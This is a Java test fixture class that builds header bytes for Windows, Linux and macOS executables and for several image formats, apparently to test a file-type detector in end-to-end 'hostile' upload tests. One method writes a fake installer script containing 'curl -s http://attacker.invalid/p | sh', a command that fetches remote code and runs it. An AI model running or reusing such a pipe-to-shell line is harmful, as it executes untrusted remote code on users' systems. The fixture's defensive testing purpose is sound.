package dev.shortlist.e2e.hostile;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.zip.CRC32;

/** Headers of executables and images: enough for any type detector to know what they are. */
final class Binaries {

    private Binaries() {}

    /** A Windows PE: DOS header, {@code PE\0\0} at 0x80, an i386 machine field; {@code serial} keeps copies distinct. */
    static byte[] windowsExecutable(int serial) {
        byte[] exe = new byte[1024];
        ByteBuffer buffer = ByteBuffer.wrap(exe).order(ByteOrder.LITTLE_ENDIAN);
        exe[0] = 'M';
        exe[1] = 'Z';
        buffer.putInt(0x3C, 0x80);
        exe[0x80] = 'P';
        exe[0x81] = 'E';
        buffer.putShort(0x84, (short) 0x14c);
        buffer.putInt(0x200, serial);
        return exe;
    }

    /** A 64-bit x86 Linux ELF executable header. */
    static byte[] elf(int serial) {
        byte[] elf = new byte[512];
        ByteBuffer buffer = ByteBuffer.wrap(elf).order(ByteOrder.LITTLE_ENDIAN);
        elf[0] = 0x7f;
        elf[1] = 'E';
        elf[2] = 'L';
        elf[3] = 'F';
        elf[4] = 2; // 64-bit
        elf[5] = 1; // little endian
        elf[6] = 1; // version
        buffer.putShort(16, (short) 2); // ET_EXEC
        buffer.putShort(18, (short) 0x3e); // x86-64
        buffer.putInt(20, 1);
        buffer.putInt(0x100, serial);
        return elf;
    }

    /** A Mach-O header, 64-bit ({@code 0xfeedfacf}) or 32-bit ({@code 0xfeedface}), little endian. */
    static byte[] machO(boolean sixtyFourBit, int serial) {
        byte[] macho = new byte[512];
        ByteBuffer buffer = ByteBuffer.wrap(macho).order(ByteOrder.LITTLE_ENDIAN);
        buffer.putInt(0, sixtyFourBit ? 0xfeedfacf : 0xfeedface);
        buffer.putInt(4, sixtyFourBit ? 0x01000007 : 7);
        buffer.putInt(12, 2); // MH_EXECUTE
        buffer.putInt(0x100, serial);
        return macho;
    }

    static byte[] shellScript(int serial) {
        return ("#!/bin/sh\n# installer " + serial + "\ncurl -s http://attacker.invalid/p | sh\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    /** A PNG declaring {@code width} x {@code height} pixels with a tiny (invalid) image stream. */
    static byte[] png(int width, int height) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        ByteBuffer header = ByteBuffer.allocate(13);
        header.putInt(width)
                .putInt(height)
                .put((byte) 8)
                .put((byte) 2)
                .put((byte) 0)
                .put((byte) 0)
                .put((byte) 0);
        chunk(out, "IHDR", header.array());
        chunk(out, "IDAT", RawPdf.deflate(new byte[4096]));
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    /** A baseline JPEG whose frame header declares {@code width} x {@code height}. */
    static byte[] jpeg(int width, int height) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16});
        out.writeBytes(new byte[] {'J', 'F', 'I', 'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0});
        out.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xC0, 0, 11, 8});
        out.writeBytes(new byte[] {(byte) (height >> 8), (byte) height, (byte) (width >> 8), (byte) width});
        out.writeBytes(new byte[] {1, 1, 0x11, 0});
        out.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xD9});
        return out.toByteArray();
    }

    static byte[] gif(int width, int height) {
        ByteBuffer buffer = ByteBuffer.allocate(32).order(ByteOrder.LITTLE_ENDIAN);
        buffer.put("GIF89a".getBytes(StandardCharsets.US_ASCII));
        buffer.putShort((short) width).putShort((short) height);
        buffer.put((byte) 0).put((byte) 0).put((byte) 0).put((byte) 0x3b);
        return buffer.array();
    }

    static byte[] bmp(int width, int height) {
        ByteBuffer buffer = ByteBuffer.allocate(128).order(ByteOrder.LITTLE_ENDIAN);
        buffer.put((byte) 'B').put((byte) 'M').putInt(128).putInt(0).putInt(54);
        buffer.putInt(40).putInt(width).putInt(height).putShort((short) 1).putShort((short) 24);
        return buffer.array();
    }

    static byte[] tiff(int width, int height) {
        ByteBuffer buffer = ByteBuffer.allocate(64).order(ByteOrder.LITTLE_ENDIAN);
        buffer.put((byte) 'I').put((byte) 'I').putShort((short) 42).putInt(8);
        buffer.putShort((short) 2);
        buffer.putShort((short) 256).putShort((short) 4).putInt(1).putInt(width);
        buffer.putShort((short) 257).putShort((short) 4).putInt(1).putInt(height);
        buffer.putInt(0);
        return buffer.array();
    }

    static boolean startsWith(byte[] content, byte[] prefix) {
        if (content.length < prefix.length) {
            return false;
        }
        for (int i = 0; i < prefix.length; i++) {
            if (content[i] != prefix[i]) {
                return false;
            }
        }
        return true;
    }

    /** Index of {@code needle} in {@code haystack} from {@code from}, or -1. */
    static int indexOf(byte[] haystack, byte[] needle, int from) {
        outer:
        for (int i = Math.max(0, from); i <= haystack.length - needle.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (haystack[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        return -1;
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
        byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
        out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        out.writeBytes(typeBytes);
        out.writeBytes(data);
        CRC32 crc = new CRC32();
        crc.update(typeBytes);
        crc.update(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }
}
